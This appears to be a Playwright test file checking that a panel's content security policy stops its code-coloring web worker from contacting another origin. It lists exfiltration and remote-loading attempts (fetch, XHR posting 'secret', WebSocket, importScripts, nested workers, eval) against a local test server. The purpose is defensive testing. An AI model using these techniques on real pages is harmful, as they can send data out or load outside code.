import assert from 'node:assert/strict';
import type { Page, Worker as PageWorker } from 'playwright-core';
import type { CodeTheme } from '../../src/shared/codeTheme';
import { aTurn } from './support/builders';
import { OutsideServer } from './support/outsideServer';
import { PanelHarness } from './support/panelPage';

const THEME: CodeTheme = {
  type: 'dark',
  foreground: '#cccccc',
  rules: [{ scope: 'keyword', settings: { foreground: '#0000ff' } }],
};

/** Runs inside the worker, in a task of its own as the worker's script would, and would ask the server of another origin for something. */
type Attempt = (outside: string) => unknown;

/** What a worker could try, and the directive that has to stop it. */
const ATTEMPTS: Readonly<Record<string, readonly [directive: string, attempt: Attempt]>> = {
  fetch: ['connect-src', outside => fetch(`${outside}/fetch`, { mode: 'no-cors' })],
  XMLHttpRequest: [
    'connect-src',
    outside => {
      const request = new XMLHttpRequest();
      request.open('POST', `${outside}/xhr`);
      request.send('secret');
    },
  ],
  WebSocket: ['connect-src', outside => new WebSocket(`${outside.replace('http', 'ws')}/socket`)],
  EventSource: ['connect-src', outside => new EventSource(`${outside}/events`)],
  'a cache': ['connect-src', async outside => (await caches.open('mine')).add(`${outside}/cached`)],
  'an import': ['script-src', outside => import(`${outside}/module.js`)],
  importScripts: ['require-trusted-types-for', outside => importScripts(`${outside}/script.js`)],
  'importScripts by a policy of its own': [
    'script-src',
    outside => importScripts(trusted('code-colors', `${outside}/trusted.js`)),
  ],
  'another policy': ['trusted-types', outside => importScripts(trusted('another', `${outside}/another.js`))],
  'a worker of its own': ['require-trusted-types-for', outside => new Worker(`${outside}/worker.js`)],
  'a worker of its own by a policy of its own': [
    'worker-src',
    outside => new Worker(trusted('code-colors', `data:text/javascript,fetch('${outside}/data', { mode: 'no-cors' })`)),
  ],
  // biome-ignore lint/security/noGlobalEval: that it can't be used is what is tried
  eval: ['require-trusted-types-for', outside => globalThis.eval(`fetch('${outside}/eval', { mode: 'no-cors' })`)],
};

declare function importScripts(url: string): void;
declare function trusted(policy: string, url: string): string;

/** Puts into the worker what the attempts have in common. */
function helpers(): void {
  const { trustedTypes } = globalThis as unknown as {
    readonly trustedTypes: { createPolicy(name: string, rules: object): { createScriptURL(url: string): string } };
  };
  Object.assign(globalThis, {
    trusted: (name: string, url: string) =>
      trustedTypes.createPolicy(name, { createScriptURL: (asked: string) => asked }).createScriptURL(url),
  });
}

/** Makes an attempt; resolves with the first directive that is broken. */
async function brokenBy(worker: PageWorker, attempt: Attempt, outside: string): Promise<string> {
  await worker.evaluate('globalThis.__name = value => value');
  await worker.evaluate(helpers);
  await worker.evaluate(`globalThis.attempt = ${attempt}`);
  return worker.evaluate(
    address =>
      new Promise<string>(resolve => {
        const { attempt } = globalThis as unknown as { readonly attempt: Attempt };
        globalThis.addEventListener('securitypolicyviolation', event => {
          const { effectiveDirective } = event as SecurityPolicyViolationEvent;
          resolve(effectiveDirective.replace(/-elem$/, ''));
        });
        // Whether it throws, rejects or only does nothing is all the same.
        setTimeout(() => new Promise(start => start(attempt(address))).catch(() => {}));
      }),
    outside,
  );
}

interface Captured extends Window {
  readonly policy: { createScriptURL(url: string): unknown };
}

/** Runs before the panel's script, and keeps the policy that it makes for its worker. */
function capture(): void {
  const { TrustedTypePolicyFactory: Factory } = window as unknown as {
    readonly TrustedTypePolicyFactory: { readonly prototype: { createPolicy(name: string, rules: object): object } };
  };
  const make = Factory.prototype.createPolicy;
  Factory.prototype.createPolicy = function (name, rules) {
    const policy = make.call(this, name, rules);
    if (name === 'code-colors') {
      Object.assign(window, { policy });
    }
    return policy;
  };
}

describe('the one worker that the panel’s content security policy allows', function () {
  this.timeout(60_000);
  let harness: PanelHarness;
  let server: OutsideServer;

  before(async () => {
    harness = await PanelHarness.start();
    server = await OutsideServer.start();
  });
  beforeEach(() => server.forget());
  after(async () => {
    await harness?.stop();
    server?.stop();
  });

  /** A panel that has colored some code. */
  const colored = async (): Promise<Page & { readonly problems: readonly string[] }> => {
    const entries = aTurn(1, 'Question?', '```ts\nreturn;\n```');
    const panel = await harness.open({ snapshot: { entries }, before: capture });
    await panel.send({ type: 'codeTheme', theme: THEME });
    await panel.page.locator('figure.code code').getByText('return', { exact: true }).waitFor();
    await panel.page.locator('figure.code code span:not(.chunk)').waitFor();
    return panel.page;
  };
  const workerOf = (page: Page): PageWorker => {
    const [worker, ...others] = page.workers();
    assert.ok(worker && others.length === 0);
    return worker;
  };

  it('is made of a blob, and nothing of the policy is broken by it', async () => {
    const page = await colored();
    assert.ok(workerOf(page).url().startsWith(`blob:${harness.origin}/`));
    assert.deepEqual(page.problems, []);
    await page.close();
  });

  it('has an address that is trusted; no other one is, by the panel’s own policy', async () => {
    const page = await colored();
    const refused = await page.evaluate(
      ([own, outside]) => {
        const { policy } = window as unknown as Captured;
        const blob = URL.createObjectURL(new Blob(['postMessage(1)']));
        return [own, blob, 'data:text/javascript,1', `${outside}/worker.js`, '/panel.js'].map(url => {
          try {
            return `trusted: ${policy.createScriptURL(url)}`;
          } catch {
            return 'refused';
          }
        });
      },
      [workerOf(page).url(), server.origin] as const,
    );
    assert.deepEqual(refused, Array(5).fill('refused'));
    await page.close();
  });

  for (const [name, [directive, attempt]] of Object.entries(ATTEMPTS)) {
    it(`stops ${name} in it`, async () => {
      const page = await colored();
      const broken = brokenBy(workerOf(page), attempt, server.origin);
      assert.equal(await Promise.race([broken, server.nextAsked()]), directive);
      assert.deepEqual({ asked: server.asked, stray: harness.strayRequests }, { asked: [], stray: [] });
      await page.close();
    });
  }

  it('is what stops them: in a worker without it they get through', async () => {
    for (const [name, [, attempt]] of Object.entries(ATTEMPTS)) {
      const page = await harness.newPage();
      await page.goto(`${server.origin}/`);
      const started = page.waitForEvent('worker');
      await page.evaluate(() => new Worker(URL.createObjectURL(new Blob(['']))).addEventListener('error', () => {}));
      const asked = server.nextAsked();
      const broken = brokenBy(await started, attempt, server.origin);
      assert.match(await Promise.race([broken, asked]), /^\//, name);
      broken.catch(() => {});
      await page.close();
    }
  });
});
